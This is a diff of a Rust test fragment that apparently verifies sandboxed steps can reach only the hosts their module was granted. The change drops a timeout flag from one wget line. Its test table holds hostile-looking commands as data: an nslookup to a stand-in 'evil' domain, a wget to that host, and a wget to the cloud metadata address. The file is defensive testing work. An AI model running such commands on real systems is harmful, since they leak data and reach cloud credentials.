@@ -191,7 +191,7 @@ fn b44_steps_reach_the_hosts_that_their_module_was_granted_and_no_others() {
             "secret.evil.example".to_owned(),
         ),
         ("nslookup secret.evil.example", "secret.evil.example".to_owned()),
-        (&format!("wget -q -T 2 -O - http://{evil}/"), format!("{evil}:80")),
+        (&format!("wget -q -O - http://{evil}/"), format!("{evil}:80")),
         (
             "wget -q -O - http://169.254.169.254/latest/meta-data",
             "169.254.169.254:80".to_owned(),
